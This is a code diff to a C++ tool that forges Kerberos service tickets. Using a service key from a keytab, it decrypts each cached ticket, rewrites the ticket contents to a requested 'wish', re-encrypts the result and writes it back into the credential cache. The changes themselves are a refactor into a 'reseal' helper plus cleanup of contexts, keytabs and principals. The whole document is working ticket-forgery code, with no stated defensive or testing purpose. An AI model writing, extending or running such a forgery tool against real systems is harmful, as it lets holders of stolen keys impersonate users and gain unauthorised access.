@@ -65,35 +65,45 @@ void alter(std::string& plain, const Wish& wish) {
   std::exit(1);
 }
 
+// Altered and sealed again with the key it was opened with.
+void reseal(krb5_context context,
+            const krb5_keyblock& key,
+            const krb5_ticket& ticket,
+            krb5_creds& creds,
+            const Wish& wish) {
+  const krb5_data& old = ticket.enc_part.ciphertext;
+  std::string plain(old.length, '\0');
+  krb5_data into{0, static_cast<unsigned>(plain.size()), plain.data()};
+  check(
+      context,
+      krb5_c_decrypt(context, &key, KRB5_KEYUSAGE_KDC_REP_TICKET, nullptr, &ticket.enc_part, &into),
+      "decrypting");
+  plain.resize(into.length);
+  alter(plain, wish);
+  std::string cipher(old.length, '\0');
+  krb5_enc_data sealed{};
+  sealed.enctype = ticket.enc_part.enctype;
+  sealed.ciphertext = {0, static_cast<unsigned>(cipher.size()), cipher.data()};
+  const krb5_data from{0, static_cast<unsigned>(plain.size()), plain.data()};
+  check(context,
+        krb5_c_encrypt(context, &key, KRB5_KEYUSAGE_KDC_REP_TICKET, nullptr, &from, &sealed),
+        "encrypting");
+  const std::string_view whole(creds.ticket.data, creds.ticket.length);
+  const auto at = whole.find(std::string_view(old.data, old.length));
+  std::memcpy(creds.ticket.data + at, cipher.data(), cipher.size());
+}
+
 // False: the keytab has no key for it.
 bool forge(krb5_context context, krb5_keytab keytab, krb5_creds& creds, const Wish& wish) {
   krb5_ticket* ticket = nullptr;
   check(context, krb5_decode_ticket(&creds.ticket, &ticket), "ticket");
   krb5_keytab_entry entry{};
-  if (krb5_kt_get_entry(context, keytab, ticket->server, ticket->enc_part.kvno,
-                        ticket->enc_part.enctype, &entry) != 0)
-    return false;
-  const krb5_data& old = ticket->enc_part.ciphertext;
-  std::string plain(old.length, '\0');
-  krb5_data into{0, static_cast<unsigned>(plain.size()), plain.data()};
-  check(context,
-        krb5_c_decrypt(context, &entry.key, KRB5_KEYUSAGE_KDC_REP_TICKET, nullptr,
-                       &ticket->enc_part, &into),
-        "decrypting");
-  plain.resize(into.length);
-  alter(plain, wish);
-  std::string cipher(old.length, '\0');
-  krb5_enc_data sealed{};
-  sealed.enctype = ticket->enc_part.enctype;
-  sealed.ciphertext = {0, static_cast<unsigned>(cipher.size()), cipher.data()};
-  const krb5_data from{0, static_cast<unsigned>(plain.size()), plain.data()};
-  check(context,
-        krb5_c_encrypt(context, &entry.key, KRB5_KEYUSAGE_KDC_REP_TICKET, nullptr, &from, &sealed),
-        "encrypting");
-  const std::string_view whole(creds.ticket.data, creds.ticket.length);
-  const auto at = whole.find(std::string_view(old.data, old.length));
-  std::memcpy(creds.ticket.data + at, cipher.data(), cipher.size());
-  return true;
+  const bool has_key = krb5_kt_get_entry(context, keytab, ticket->server, ticket->enc_part.kvno,
+                                         ticket->enc_part.enctype, &entry) == 0;
+  if (has_key) reseal(context, entry.key, *ticket, creds, wish);
+  if (has_key) krb5_free_keytab_entry_contents(context, &entry);
+  krb5_free_ticket(context, ticket);
+  return has_key;
 }
 
 }  // namespace
@@ -126,7 +136,11 @@ int main(int argc, char** argv) {
     krb5_free_cred_contents(context, &creds);
   }
   krb5_cc_end_seq_get(context, from, &cursor);
+  krb5_cc_close(context, from);
   krb5_cc_close(context, into);
+  krb5_kt_close(context, keytab);
+  krb5_free_principal(context, client);
+  krb5_free_context(context);
   std::cout << forged << " altered\n";
   return forged == 0 ? 1 : 0;
 }
